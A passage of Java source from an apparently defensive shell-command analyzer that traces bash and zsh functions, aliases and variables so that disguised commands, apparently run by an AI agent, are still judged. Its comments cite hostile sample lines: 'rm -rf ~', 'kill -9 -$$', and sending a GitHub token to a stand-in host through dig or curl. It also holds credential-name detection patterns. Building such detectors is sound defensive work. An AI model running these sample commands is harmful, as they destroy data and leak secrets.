    private final Map<String, Optional<FunctionDef>> functions = new HashMap<>();
    /** The functions being walked at a call, innermost first. */
    private final Deque<String> calling = new ArrayDeque<>();
    /** The names each function being walked declared local ({@code local}, {@code declare} without {@code -g}). */
    private final Deque<Set<String>> locals = new ArrayDeque<>();

    /**
     * {@code f() { D=/; }; f; rm -rf "$D"}: a call of a function whose definition surely ran
     * walks its body once more, in this shell, with the call's literal words as {@code $1…}: its
     * commands are judged with the values known at the call, and the variables it sets (not the
     * local ones, which get back their values from before the call) are known after it. A body
     * that may leave early ({@code return}, {@code exit}) is walked as conditional, its
     * assignments forgotten. The call itself stays a user function (SW1008); the segments only
     * add. False when the call is not walked (recursion, an alias, prefix assignments scoped to
     * the call, too deep): the caller forgets every value, as before.
     */
    private boolean call(Draft d, Ctx c) {
        String name = d.argv.get(0).text();
        Optional<FunctionDef> f = functions.getOrDefault(name, Optional.empty());
        if (f.isEmpty() || aliases.containsKey(name) || calling.contains(name) || calling.size() >= MAX_CALLS
                || !d.assignments.isEmpty() || d.depth + 1 > MAX_DEPTH) {
            return false;
        }
        Vars v = c.vars();
        Vars before = v.copy();
        List<Word> args = d.argv.subList(1, d.argv.size());
        v.positional = args.stream().allMatch(w -> w.literal() && !w.has(WordFeature.GLOB) && !w.has(WordFeature.BRACE))
                ? List.copyOf(args) : null;
        boolean leaves = hasWord(f.get().body(), FUNCTION_EXITS);
        // a definition that may not have run (`if …; then f() { D=/; }; fi; f`): its body is walked
        // as a branch that may run (what it assigns is a maybe value) and the call stays unknown
        boolean maybe = !f.get().sure();
        Ctx inner = new Ctx(d.id, d.depth + 1, Provenance.FUNCTION_BODY, d.wrappers, v, c.conditional() || leaves || maybe,
                c.inRedirects(), c.inHeredocs(), c.inStdinFile());
        calling.push(name);
        locals.push(new HashSet<>());
        Set<String> declared;
        int from = drafts.size();
        try {
            Unit u = f.get().unit();
            compound(f.get().body().compoundCommand(), withRedirects(f.get().body().redirect(), inner, u), u, d.position);
        } finally {
            calling.pop();
            declared = locals.pop();
        }
        if (v.positional != null && !leaves && !maybe && exactCall(d, c) && f.get().body().redirect().isEmpty()) {
            d.bodyFrom = from;
            d.bodyTo = drafts.size();
        }
        for (String local : declared) {
            // a local variable is gone after the call: the caller's value is back
            String old = before.known.get(local);
            List<Word> array = before.arrays.get(local);
            String candidate = before.candidates.get(local);
            boolean wasUnset = before.unset.contains(local);
            if (old != null) {
                v.known.put(local, old);
            } else {
                v.known.remove(local);
            }
            if (array != null) {
                v.arrays.put(local, array);
            }
            if (candidate != null) {
                v.candidates.put(local, candidate);
            }
            if (wasUnset) {
                v.unset.add(local);
            }
            v.refs.remove(local);
            if (before.refs.containsKey(local)) {
                v.refs.put(local, before.refs.get(local));
            }
        }
        v.positional = before.positional;
        return !maybe;
    }

    /**
     * Builtins that change how the shell reads or runs what follows (options, aliases, traps,
     * sourced files, the command table): a body using one is not judged by its segments alone.
     */
    private static final Set<String> SHELL_STATE = Set.of("source", ".", "trap", "alias", "unalias", "enable", "hash",
            "set", "shopt", "setopt", "unsetopt", "emulate", "autoload", "functions", "unfunction", "unhash",
            "disable", "zmodload", "bindkey", "bind", "fc", "history", "builtin", "command", "declare", "typeset",
            "readonly", "export", "unset", "read", "mapfile", "readarray", "getopts", "shift", "let", "caller",
            "wait", "coproc", "kill", "disown", "jobs", "fg", "bg", "suspend", "ulimit", "umask", "exec", "eval");

    /**
     * {@code f() { ls "$@"; }; f src}: a call walked in full, in the foreground, as the only stage
     * of its pipeline, without wrappers, redirections (its own or around it) or here-documents.
     * Its words and the body's exits were checked by the caller.
     */
    private static boolean exactCall(Draft d, Ctx c) {
        return !d.position.background() && d.position.stages() == 1 && d.wrappers.isEmpty()
                && d.redirects.isEmpty() && d.heredocs.isEmpty() && c.inRedirects().isEmpty()
                && c.inHeredocs().isEmpty() && !c.inStdinFile();
    }

    /**
     * A call walked exactly whose body made at least one command and whose every command is
     * known: no opacity (so no call of another function or alias, no dynamic word), no builtin
     * that changes the shell's state ({@link #SHELL_STATE}), no command without a name. Such a
     * call is its body's commands, which are judged in its place: it is not USER_FUNCTION.
     */
    private boolean bodyFullyKnown(Draft call) {
        if (call.bodyTo <= call.bodyFrom) {
            return false;
        }
        for (Draft b : drafts.subList(call.bodyFrom, call.bodyTo)) {
            if (!b.reasons.isEmpty() || b.argv.isEmpty() && b.assignments.isEmpty()) {
                return false;
            }
            if (!b.argv.isEmpty() && (!b.argv.get(0).literal() || SHELL_STATE.contains(b.argv.get(0).text()))) {
                return false;
            }
        }
        return true;
    }

    /**
     * Assignments to the shell's own tables: bash's {@code BASH_ALIASES[NAME]=BODY} defines an
     * alias, {@code BASH_CMDS[NAME]=PATH} binds NAME to a program like {@code hash -p PATH NAME};
     * zsh's {@code aliases}, {@code galiases}, {@code saliases} and {@code commands} are the same
     * tables, and {@code functions[NAME]=BODY} defines a function (its calls are
     * {@code USER_FUNCTION}, its body is split). A form whose names or values the text does not
     * show ({@code BASH_CMDS=(…)}, a computed subscript or value), zsh's {@code mapfile[PATH]=TEXT}
     * (writes the file) and the other zsh tables ({@link ZshMeanings#TABLES}) are opaque.
     */
    private void shellTable(Word a, Draft d, Ctx c) {
        String table = ShellEvaluation.referencedName(a.text());
        boolean zsh = ZshMeanings.TABLES.contains(table);
        if (!table.equals("BASH_ALIASES") && !table.equals("BASH_CMDS") && !zsh) {
            return;
        }
        String key = ShellEvaluation.subscript(a.text());
        String value = ShellEvaluation.assignedValue(a.text());
        if (!a.literal() || key == null || value == null || !dev.shellwarden.grammar.bash.Names.isIdentifier(key.replace("-", "_"))) {
            d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
            return;
        }
        switch (table) {
            case "BASH_ALIASES", "aliases" -> aliases.put(key, value);
            case "galiases" -> globalAliases.put(key, value);
            case "saliases" -> suffixAliases.put(key, value);
            case "BASH_CMDS", "commands" -> hashed.put(key, Word.literal(value));
            case "functions" -> {
                userCommands.add(key);
                if (key.equals(ZSH_DEBUG_TRAP)) {
                    // `functions[TRAPDEBUG]=…` defines the DEBUG trap: see the function-definition branch
                    d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
                }
                if (d.depth + 1 <= MAX_DEPTH) {
                    nested(value, new Ctx(d.id, d.depth + 1, Provenance.FUNCTION_BODY, d.wrappers, c.vars().copy(),
                            true, List.of(), List.of(), false));
                }
            }
            default -> d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
        }
    }

    /**
     * zsh glob qualifiers that run code ({@code *(e:'CODE':)}, {@code *(+NAME)}): the word is
     * not modelled, so the command is opaque (SW1006), and the literal code is split as a nested
     * command so the floor sees it. Only words with a {@code (} are looked at.
     */
    private void zshQualifiers(Token tok, Unit u, Ctx c, Draft d) {
        String raw = tok.getText();
        if (raw.indexOf('(') < 0 || !raw.endsWith(")")) {
            return;
        }
        List<String> codes = ZshMeanings.qualifierCode(raw, decode(tok, u, c).word().text());
        for (String code : codes) {
            d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
            if (code != null && d.depth + 1 <= MAX_DEPTH) {
                nested(code, new Ctx(d.id, d.depth + 1, Provenance.EVAL_PAYLOAD, d.wrappers, c.vars().copy(),
                        true, List.of(), List.of(), false));
            }
        }
    }

    /**
     * A word that is a zsh global alias ({@code alias -g G='…'}; {@code echo G}), or a command
     * word with a suffix alias's extension ({@code alias -s py=vim}; {@code x.py}): what the
     * text turns into is not modelled, so the command is opaque (SW1006), and the alias body is
     * split as a nested command so the floor sees it.
     */
    private void zshAliasUse(Draft d, Ctx c) {
        List<String> bodies = new ArrayList<>();
        for (Word w : d.argv) {
            if (globalAliases.containsKey(w.text())) {
                bodies.add(globalAliases.get(w.text()));
            }
        }
        String command = d.argv.get(0).text();
        int dot = command.lastIndexOf('.');
        if (dot > 0 && suffixAliases.containsKey(command.substring(dot + 1))) {
            bodies.add(suffixAliases.get(command.substring(dot + 1)) + " " + command);
        }
        for (String body : bodies) {
            d.reasons.add(OpaqueReason.UNSUPPORTED_CONSTRUCT);
            if (d.depth + 1 <= MAX_DEPTH) {
                nested(body, new Ctx(d.id, d.depth + 1, Provenance.EVAL_PAYLOAD, d.wrappers, c.vars().copy(),
                        c.conditional(), c.inRedirects(), c.inHeredocs(), c.inStdinFile()));
            }
        }
    }

    /** Most alias words expanded one after another ({@code alias s='sudo '}: the next word is expanded too). */
    private static final int MAX_ALIAS_CHAIN = 8;

    /**
     * {@code alias x='rm -rf ~'} then {@code x}: a command whose name is an alias defined earlier
     * in the text runs the alias body followed by the rest of the command, in this shell. bash
     * expands aliases only in an interactive shell or after {@code shopt -s expand_aliases}, and
     * only from the next line on; zsh and {@code bash -i} always do. To fail closed the expanded
     * text is split as a nested command of the use wherever the name is used as a command, beside
     * the command as written (which runs when no alias is expanded). An alias is not expanded
     * again inside its own expansion; a body ending in a blank expands the next word too.
     */
    private void aliasUse(Draft d, Token first, BashParser.SimpleCommandContext sc, Unit u, Ctx c) {
        if (first == null || d.argv.isEmpty()) {
            return;
        }
        zshAliasUse(d, c);
        if (!d.argv.get(0).literal()) {
            return;
        }
        String name = d.argv.get(0).text();
        if (!aliases.containsKey(name) || expandingAliases.contains(name)) {
            return;
        }
        String rest = u.text().substring(Math.min(first.getStopIndex() + 1, sc.stop.getStopIndex() + 1), sc.stop.getStopIndex() + 1);
        StringBuilder text = new StringBuilder(aliases.get(name));
        Set<String> expanded = new HashSet<>(Set.of(name));
        for (int k = 0; k < MAX_ALIAS_CHAIN && (text.toString().endsWith(" ") || text.toString().endsWith("\t")); k++) {
            String next = rest.stripLeading();
            int end = 0;
            while (end < next.length() && !Character.isWhitespace(next.charAt(end)) && ";&|<>()".indexOf(next.charAt(end)) < 0) {
                end++;
            }
            String word = next.substring(0, end);
            if (!aliases.containsKey(word) || !expanded.add(word)) {
                break;
            }
            text.append(aliases.get(word));
            rest = next.substring(end);
        }
        text.append(rest);
        if (d.depth + 1 > MAX_DEPTH) {
            d.reasons.add(OpaqueReason.LIMIT_EXCEEDED);
            return;
        }
        expandingAliases.addAll(expanded);
        try {
            nested(text.toString(), new Ctx(d.id, d.depth + 1, Provenance.EVAL_PAYLOAD, d.wrappers, c.vars().copy(),
                    c.conditional(), c.inRedirects(), c.inHeredocs(), c.inStdinFile()));
        } finally {
            expandingAliases.removeAll(expanded);
        }
    }

    /**
     * The export attribute a declaration gives or takes: {@code export NAME…} and
     * {@code declare -x}/{@code typeset -x}/{@code local -x} give it, {@code export -n} and
     * {@code declare +x} take it ({@code export -f} names functions).
     */
    private static void exportAttribute(List<Word> argv, Vars vars) {
        String name = argv.get(0).text();
        boolean give = name.equals("export");
        boolean take = false;
        for (Word w : argv.subList(1, argv.size())) {
            String t = w.text();
            if (!w.literal() || t.equals("--") || t.length() < 2 || t.charAt(0) != '-' && t.charAt(0) != '+') {
                break;
            }
            if (t.indexOf('f') > 0 || t.indexOf('F') > 0) {
                return;
            }
            if (t.indexOf('x') > 0) {
                give |= t.charAt(0) == '-';
                take |= t.charAt(0) == '+';
            }
            take |= name.equals("export") && t.indexOf('n') > 0;
        }
        if (!give && !take || name.equals("readonly")) {
            return;
        }
        for (Word w : ShellEvaluation.nameOperands(argv)) {
            String v = ShellEvaluation.referencedName(w.text());
            if (!v.isEmpty() && !v.startsWith("-")) {
                if (take) {
                    vars.exported.remove(v);
                } else {
                    vars.exported.add(v);
                }
            }
        }
    }

    /**
     * {@code set}: {@code -a} / {@code -o allexport} (and {@code +}) switch exporting every
     * assignment; {@code --}, {@code -} or the first word that is no option makes the rest the
     * positional parameters, known when every word is literal and the command surely runs.
     */
    private static void setBuiltin(List<Word> argv, Ctx c) {
        Vars v = c.vars();
        int k = 1;
        while (k < argv.size()) {
            Word w = argv.get(k);
            String t = w.text();
            if (!w.literal()) {
                v.positional = null;
                return;
            }
            if (t.equals("--") || t.equals("-")) {
                k++;
                break;
            }
            if (t.length() < 2 || t.charAt(0) != '-' && t.charAt(0) != '+') {
                break;
            }
            boolean on = t.charAt(0) == '-';
            if (t.indexOf('a') > 0) {
                v.allexport = on;
            }
            k++;
            if (t.indexOf('o') > 0 && k < argv.size()) {
                if (argv.get(k).text().equals("allexport") || !argv.get(k).literal()) {
                    v.allexport = on || !argv.get(k).literal();
                }
                k++;
            }
        }
        boolean sets = k < argv.size() || argv.get(k - 1).text().equals("--") || argv.get(k - 1).text().equals("-");
        if (k >= argv.size() && !sets) {
            return;
        }
        List<Word> rest = argv.subList(Math.min(k, argv.size()), argv.size());
        v.positional = c.conditional() || substituted(c.wrappers()) || !rest.stream().allMatch(Word::literal) ? null : List.copyOf(rest);
        if (v.positional == null && rest.stream().allMatch(Word::literal)) {
            v.maybePositional = List.copyOf(rest); // `true && set -- -rf ~; rm $@`
        }
    }

    /** {@code hash -p PATH NAME…} binds the names; {@code -r} forgets all, {@code -d NAME} one. */
    private void hash(List<Word> argv) {
        for (int i = 1; i < argv.size(); i++) {
            String t = argv.get(i).text();
            if (t.equals("-r")) {
                hashed.clear();
            } else if (t.equals("-d")) {
                argv.subList(i + 1, argv.size()).forEach(w -> hashed.remove(w.text()));
                return;
            } else if (t.equals("-p") && i + 2 < argv.size()) {
                // a dynamic program makes the name a dynamic command
                for (Word name : argv.subList(i + 2, argv.size())) {
                    if (name.literal()) {
                        hashed.put(name.text(), argv.get(i + 1));
                    } else {
                        userCommands.add(name.text());
                    }
                }
                return;
            }
        }
    }

    /**
     * {@code declare -n NAME} or {@code -i NAME}: the variable gets the attribute and loses its
     * known value (a nameref has none of its own; an integer's is the evaluated number), except
     * {@code declare -i NAME} without a value: bash keeps the text it held until the next
     * assignment ({@code d=7200; declare -i d; d=1 | cat; sleep $d} sleeps 7200), and
     * {@code declare -i NAME+=V}: the attribute comes first, so {@code +=} adds V to the old value
     * ({@code d=1; declare -i d+=7199} holds 7200, computed by {@link #assign}; rt32b).
     */
    private static void attribute(Word a, Vars vars, Set<String> withAttribute, boolean keepsValue) {
        String name = ShellEvaluation.referencedName(a.text());
        if (!name.isEmpty()) {
            withAttribute.add(name);
            if (!keepsValue || Wrappers.isAssignment(a.text()) && !a.text().startsWith(name + "+=")) {
                vars.known.remove(name);
            }
            vars.refs.remove(name);
        }
    }

    /**
     * {@code declare -n NAME=TARGET}: NAME stands for TARGET from now on; a target that is not a
     * plain literal name leaves NAME without one (its value unknown).
     */
    private static void refer(Word a, Vars vars) {
        String name = ShellEvaluation.referencedName(a.text());
        String target = ShellEvaluation.assignedValue(a.text());
        if (!name.isEmpty() && a.literal() && target != null && dev.shellwarden.grammar.bash.Names.isIdentifier(target)) {
            vars.refs.put(name, target);
        }
    }

    /**
     * {@code printf -v NAME FORMAT ARGS…} of literal words whose format has only {@code %s} and
     * {@code %%} directives and no escapes: NAME's value is known ({@code printf -v c 'rm -rf %s' ~;
     * eval "$c"} evaluates a known command line).
     */
    private void printfAssignment(List<Word> argv, Ctx c) {
        String value = printfValue(argv);
        if (value != null) {
            assign(Word.literal(argv.get(2).text() + "=" + value), c.vars(), c.conditional() || substituted(c.wrappers()));
        }
    }

    /** The value {@code printf -v NAME FORMAT ARGS…} assigns when {@link #printfAssignment} can know it; null otherwise. */
    private static String printfValue(List<Word> argv) {
        if (argv.size() < 4 || !argv.get(1).text().equals("-v") || !argv.stream().allMatch(Word::literal)
                || !dev.shellwarden.grammar.bash.Names.isIdentifier(argv.get(2).text())) {
            return null;
        }
        String format = argv.get(3).text();
        List<Word> args = argv.subList(4, argv.size());
        String[] parts = format.split("%s", -1);
        if (format.indexOf('\\') >= 0 || format.replace("%s", "").replace("%%", "").indexOf('%') >= 0
                || parts.length - 1 != args.size()) {
            return null;
        }
        StringBuilder value = new StringBuilder(parts[0].replace("%%", "%"));
        for (int k = 0; k < args.size(); k++) {
            value.append(args.get(k).text()).append(parts[k + 1].replace("%%", "%"));
        }
        return value.toString();
    }

    /**
     * The value a builtin that assigns by name ({@code printf -v}, {@code read}, {@code mapfile},
     * {@code getopts}, {@code wait -p}) gives a prompt variable, read as {@link #promptValue} reads
     * an assignment's: {@code printf -v PS4 '$(%s)' CMD; set -x} runs CMD as {@code PS4='$(CMD)'}
     * does. printf's known value and read's literal here-string are split; any other value is only
     * known when the command runs, and prompt expansion runs whatever it holds (fail closed).
     */
    private void promptAssignedByName(Draft d, String name, Evaluation e) {
        if (Set.of("unset", "test", "[").contains(name)) {
            return;
        }
        for (Word w : ShellEvaluation.nameOperands(d.argv)) {
            if (!ShellEvaluation.PROMPTS.contains(w.text())) {
                continue;
            }
            String value = name.equals("printf") ? printfValue(d.argv) : null;
            if (name.equals("read")) {
                value = d.redirects.stream().filter(r -> r.op().equals("<<<") && r.target().literal())
                        .map(r -> r.target().text()).findFirst().orElse(null);
            }
            if (value != null) {
                promptValue(value, e);
            } else {
                e.reasons().add(OpaqueReason.DYNAMIC_EVAL);
            }
        }
    }

    /**
     * {@code B=$A} of an A that is only a candidate ({@link Vars#candidates}), a maybe value
     * ({@link Vars#maybe}) or a range ({@link Vars#RANGES}): B holds what A may hold, so it gets the same reading (a candidate
     * stays one only where the assignment surely runs; in a branch it is a maybe value).
     */
    private void copyReadings(Word a, String name, Vars vars, boolean forget0) {
        String raw = a.raw().substring(a.raw().indexOf('=') + 1);
        String candidate = vars.candidates.isEmpty() ? null : readWith(raw, vars, vars.candidates);
        Map<String, String> values = vars.maybe;
        if (RANGE_READ.matcher(raw).find()) {
            // `d=$RANDOM`: d may hold the largest number of the range (see Vars#RANGES)
            values = new HashMap<>(Vars.RANGES);
            values.putAll(vars.maybe);
        }
        String maybe = values.isEmpty() ? null : readWith(raw, vars, values);
        if (candidate != null && !forget0) {
            vars.candidates.put(name, candidate);
        }
        // the value alone a spelled parameter (`t=$GITHUB_TOKEN`), or one mixed into literal text
        String spelled = maybe != null || candidate != null ? null : spelledParameter(raw);
        if (spelled == null && maybe == null && candidate == null) {
            spelled = withSecretSpellings(raw, vars);
        }
        if (spelled != null) {
            vars.maybe.put(name, spelled);
            return;
        }
        if (maybe != null || candidate != null && forget0) {
            vars.maybe.put(name, maybe != null ? maybe : candidate);
        } else if (!raw.isEmpty() && raw.chars().noneMatch(ch -> "\"'\\`".indexOf(ch) >= 0)) {
            // `y=$x` of an x holding `a[$(CMD)]`: an assignment neither splits nor globs, so y
            // holds x's text although the unquoted word is not one known word; read as quoted, it
            // is a maybe value, evaluated where bash evaluates values
            String whole = readWith("\"" + raw + "\"", vars, vars.maybe);
            if (whole != null) {
                vars.maybe.put(name, whole);
            }
        }
        copyLoopEnds(raw, name, vars);
    }

    /**
     * Parameters the engine reads by their spelling, since no value of theirs is known here:
     * {@code $$} (this shell: {@code kill -9 -$$} is its group), {@code $BASHPID} (the same outside
     * a subshell; rt34b), {@code $PPID} (the agent) and a variable named like a credential
     * ({@code $GITHUB_TOKEN}, see {@link SecretNames}).
     */
    private static final Pattern SPELLED_PARAMETER = Pattern.compile(
            "(?<q>\"?)\\$(?:(?<bare>\\$|BASHPID|PPID|" + SecretNames.VARIABLE + ")|\\{(?<braced>\\$|BASHPID|PPID|" + SecretNames.VARIABLE + ")"
            // `${GITHUB_TOKEN:-none}` (rt34b): the default only stands in when the parameter is unset or empty
            + "(?::?[-=][^}'\"$`\\\\]*)?})\\k<q>");

    /**
     * The spelling {@code $NAME} of the one {@link #SPELLED_PARAMETER} an assigned value is
     * ({@code p=$$}, {@code t="${GITHUB_TOKEN}"}); null for any other value. WHY (rt33b): the
     * engine knows {@code kill -9 -$$} and {@code dig "$GITHUB_TOKEN.x.example"} by these
     * spellings, and {@code p=$$; kill -9 -$p} hid them behind a plain variable; kept as a maybe
     * value, the command reading the variable is read a second time with the spelling in place
     * (see {@link #maybeReading}), as if the parameter were written there.
     */
    private static String spelledParameter(String raw) {
        java.util.regex.Matcher m = SPELLED_PARAMETER.matcher(raw);
        if (!m.matches()) {
            return null;
        }
        return "$" + (m.group("bare") != null ? m.group("bare") : m.group("braced"));
    }

    /** A reference to a variable named like a credential inside a value ({@code …?t=$GITHUB_TOKEN}, {@code ${NPM_TOKEN}}). */
    private static final Pattern SECRET_REFERENCE = Pattern.compile("\\$\\{?(" + SecretNames.VARIABLE + ")");

    /**
     * An assigned value that holds credential-named variables among literal text
     * ({@code U="https://x.example/?t=$GITHUB_TOKEN"}), read with each such variable as its
     * spelling ({@code https://x.example/?t=${GITHUB_TOKEN}}, braced: a letter may follow); null when it holds none or something
     * else stays unknown. WHY (ps36): {@link #spelledParameter} carries a value that is the
     * variable alone ({@code t=$GITHUB_TOKEN}), and the token built into a URL first, then sent
     * with {@code curl "$U"}, reached its host unread; kept as a maybe value, the command reading
     * U is read a second time with the spelling in place, which only adds findings.
     */
    private String withSecretSpellings(String raw, Vars vars) {
        // `U=$(printf '…%s' "$GITHUB_TOKEN")`, `U="…$(printenv GITHUB_TOKEN)"` (left37b): the
        // printed output in the substitution's place
        String printed = PrintedOutputs.inline(raw, SECRET_NAME.asMatchPredicate());
        if (printed != null) {
            raw = printed;
        }
        java.util.regex.Matcher m = SECRET_REFERENCE.matcher(raw);
        Map<String, String> spellings = new HashMap<>();
        while (m.find()) {
            spellings.put(m.group(1), "${" + m.group(1) + "}");
        }
        java.util.regex.Matcher r = NAME_REFERENCE.matcher(raw);
        while (r.find()) {
            // `declare -n R=GITHUB_TOKEN; U="…$R"` (left37b): a nameref stands for its target
            String target = vars.target(r.group(1));
            if (target != null && SECRET_NAME.matcher(target).matches()) {
                spellings.put(r.group(1), "${" + target + "}");
            }
        }
        return spellings.isEmpty() ? null : readWith(raw, vars, spellings);
    }

    /** A variable name that names a credential ({@link SecretNames#VARIABLE}). */
    private static final Pattern SECRET_NAME = Pattern.compile(SecretNames.VARIABLE);
    /** A reference to any variable inside a value ({@code $R}, {@code ${R}}). */
    private static final Pattern NAME_REFERENCE = Pattern.compile("\\$\\{?([A-Za-z_][A-Za-z0-9_]*)");

    /**
     * The elements of an array value {@code (W…)} whose words are plain ones or a
     * {@link #SPELLED_PARAMETER} ({@code ("$GITHUB_TOKEN" x)}), each spelled one as its spelling;
     * null when none is spelled or another word is not plain.
     */
    private static List<Word> spelledElements(String rawValue) {
        if (!rawValue.startsWith("(") || !rawValue.endsWith(")")) {
            return null;
        }
        List<Word> out = new ArrayList<>();
        boolean any = false;
        for (String w : WHITESPACE.split(rawValue.substring(1, rawValue.length() - 1).strip())) {
            String spelled = spelledParameter(w);
            if (spelled != null) {
                any = true;
                out.add(Word.literal(spelled));
            } else if (PLAIN.matcher(w).matches() && w.indexOf('[') < 0 && w.indexOf('*') < 0 && w.indexOf('?') < 0) {
                out.add(Word.literal(w));
            } else {
                return null;
            }
        }
        return any ? List.copyOf(out) : null;
    }

    /** A credential-named variable as a whole parameter, plain or braced ({@code $GITHUB_TOKEN}, {@code ${NPM_TOKEN}}). */
    private static final Pattern SECRET_PARAMETER = Pattern.compile(
            "\\$(?:(?<bare>" + SecretNames.VARIABLE + ")(?![A-Za-z0-9_])|\\{(?<braced>" + SecretNames.VARIABLE + ")})");
    /** Stands for a {@link #SECRET_PARAMETER} while {@link #arrayElements} reads the words around it. */
    private static final char SECRET_MARK = '\uE000';

    /**
     * The elements of an array value ({@code a=(W…)}) whose words are literal but for
     * credential-named variables, each such variable as its braced spelling
     * ({@code (-H "Authorization: Bearer ${GITHUB_TOKEN}")}); null when none is there or another
     * word is not literal. WHY (left37): {@link #spelledElements} takes the variable only as a
     * whole element, so a header built around it in an array reached {@code curl "${A[@]}"} unread.
     */
    private static List<Word> secretElements(String raw) {
        if (raw.indexOf(SECRET_MARK) >= 0) {
            return null;
        }
        List<String> found = new ArrayList<>();
        java.util.regex.Matcher m = SECRET_PARAMETER.matcher(raw);
        StringBuilder marked = new StringBuilder();
        while (m.find()) {
            found.add(m.group("bare") != null ? m.group("bare") : m.group("braced"));
            m.appendReplacement(marked, String.valueOf(SECRET_MARK));
        }
        m.appendTail(marked);
        List<Word> words = found.isEmpty() ? null : arrayElements(marked.toString());
        if (words == null) {
            return null;
        }
        java.util.Iterator<String> next = found.iterator();
        List<Word> out = new ArrayList<>();
        for (Word w : words) {
            StringBuilder t = new StringBuilder();
            for (char ch : w.text().toCharArray()) {
                if (ch == SECRET_MARK) {
                    // the marks come back in text order, as they were found
                    t.append("${").append(next.hasNext() ? next.next() : "").append('}');
                } else {
                    t.append(ch);
                }
            }
            out.add(Word.literal(t.toString()));
        }
        return List.copyOf(out);
    }

    /** An assignment's word read with {@code values} for the names without a known value; null when it is not literal then. */
    private String readWith(String raw, Vars vars, Map<String, String> values) {
        Word w = BashWords.decode(raw, 0, Map.of(), n -> vars.get(n) != null ? vars.get(n) : values.get(n), vars::target,
                vars::isUnset, !ifsTouched, !patternsTouched).word();
        return w.literal() ? w.text() : null;
    }

    private void assign(Word a, Vars vars, boolean forget0) {
        String t = a.text();
        int eq = t.indexOf('=');
        boolean append = t.charAt(eq - 1) == '+';
        String name = t.substring(0, append ? eq - 1 : eq);
        Map<String, String> known = vars.known;
        if (name.contains("[")) {
            vars.forget(name.substring(0, name.indexOf('[')));
            return;
        }
        String value = t.substring(eq + 1);
        if (namerefs.contains(name) && vars.target(name) == null) {
            // the first assignment to a nameref without a target names the target
            if (!forget0 && a.literal() && dev.shellwarden.grammar.bash.Names.isIdentifier(value)) {
                vars.refs.put(name, value);
            }
            return;
        }
        String target = vars.target(name);
        name = target == null ? name : target;
        boolean forget = forget0 || integers.contains(name);
        // `declare -i d=2*3600`: an integer variable holds the number its value computes, when computed here
        // and `d+=3600` adds: bash computes `d + (3600)`
        String integer = integers.contains(name) && !forget0 && a.literal() && !value.startsWith("(")
                ? Arithmetic.bash(append ? name + "+(" + value + ")" : value, known::get) : null;
        if (integer == null && append && integers.contains(name) && !forget0 && a.literal() && !value.startsWith("(")
                && !known.containsKey(name)) {
            // `declare -i d; d+=7199` (rt34b): an unset or empty d counts as 0, so d may hold
            // the operand's number (or its maybe value's sum); only a maybe value, as d may be inherited
            String self = name;
            String from = vars.maybe.getOrDefault(name, "0");
            String sum = Arithmetic.bash(name + "+(" + value + ")", n -> n.equals(self) ? from : known.get(n));
            if (sum != null) {
                vars.maybe.put(name, sum);
            }
        }
        if (forget0 && !append && value.startsWith("(") && !associative.contains(name)) {
            List<Word> maybeElements = arrayElements(a.raw());
            if (maybeElements != null) {
                vars.maybeArrays.put(name, maybeElements); // `true && a=(-rf ~); rm "${a[@]}"`
            }
        } else if (append && value.startsWith("(") && !associative.contains(name)
                && (forget0 || vars.maybeArrays.containsKey(name) && !vars.arrays.containsKey(name))) {
            // `if …; then a=(rm); a+=(-rf ~); fi`, `false || a=(rm); a+=(-rf ~)`: the array maybe
            // assigned (or known) grows maybe
            List<Word> more = arrayElements(a.raw());
            List<Word> was = vars.maybeArrays.containsKey(name) ? vars.maybeArrays.get(name) : vars.arrays.get(name);
            if (more != null && was != null) {
                List<Word> all = new ArrayList<>(was);
                all.addAll(more);
                vars.maybeArrays.put(name, List.copyOf(all));
            }
        }
        if (vars.allexport) {
            vars.exported.add(name);
        }
        String rawValue = a.raw().substring(a.raw().indexOf('=') + 1);
        if (value.startsWith("(") && ProjectLoops.unquotedSubstitution(rawValue)) {
            // `a=($(find .))`: the elements are the output split at blanks and newlines
            vars.splitArrays.add(name);
        } else if (!append && !forget0) {
            vars.splitArrays.remove(name);
        }
        List<Word> before = vars.arrays.remove(name);
        List<Word> elements = value.startsWith("(") && !forget && !associative.contains(name) ? arrayElements(a.raw()) : null;
        if (elements != null && (!append || before != null)) {
            // a=(W…), a+=(W…) of a known array: every element is a known literal word
            List<Word> all = new ArrayList<>(append ? before : List.of());
            all.addAll(elements);
            known.remove(name);
            vars.arrays.put(name, List.copyOf(all));
            return;
        }
        List<Word> spelled = elements == null && !append && !forget && value.startsWith("(") && !associative.contains(name)
                ? spelledElements(rawValue) : null;
        List<Word> secret = spelled == null && elements == null && (!append || before != null) && !forget
                && value.startsWith("(") && !associative.contains(name) ? secretElements(a.raw()) : null;
        if (secret != null) {
            // `A=(-H "Authorization: Bearer $GITHUB_TOKEN")`, `A+=(…)` of a known array (left37)
            List<Word> all = new ArrayList<>(append ? before : List.of());
            all.addAll(secret);
            spelled = List.copyOf(all);
        }
        if (spelled != null) {
            // `t=("$GITHUB_TOKEN"); dig "${t[0]}.x.example"` (rt34b): the elements read by their
            // spelling are maybe elements (see #spelledParameter), `$t` is the first
            known.remove(name);
            vars.maybeArrays.put(name, spelled);
            vars.maybe.put(name, spelled.get(0).text());
            return;
        }
        String temp = forget || a.literal() || append ? null : TempFiles.mktempPath(a.raw().substring(a.raw().indexOf('=') + 1), known::get);
        String maybeTemp = temp == null ? null : TempFiles.mktempPath(a.raw().substring(a.raw().indexOf('=') + 1),
                n -> known.containsKey(n) ? known.get(n) : vars.maybe.get(n));
        if (temp != null && !temp.equals(maybeTemp)) {
            // `true && TMPDIR=~; T=$(mktemp)`: the file may be made in the maybe directory,
            // which may be no temporary one
            known.remove(name);
            if (maybeTemp != null) {
                vars.maybe.put(name, maybeTemp);
            }
        } else if (temp != null) {
            known.put(name, temp); // a fresh file or directory in a temporary one (see TempFiles)
        } else if (integer != null) {
            known.put(name, integer);
        } else if (forget || !a.literal() || value.startsWith("(")) {
            // a range held only maybe (in a branch, `if true; then d=$RANDOM; …`) is still one of its
            // numbers there: its readings at the ends only add segments (fail closed; metamorphic IF_TRUE)
            String held = append ? null : LoopSteps.valueText(rawValue);
            // `d=$((d * 3))` of a d holding a range's number: computed from the range (see #heldAfter)
            String composed = held == null ? null : heldAfter(name + " = (" + held + ")", vars).get(name);
            String old = known.containsKey(name) ? known.get(name) : vars.maybe.get(name);
            known.remove(name);
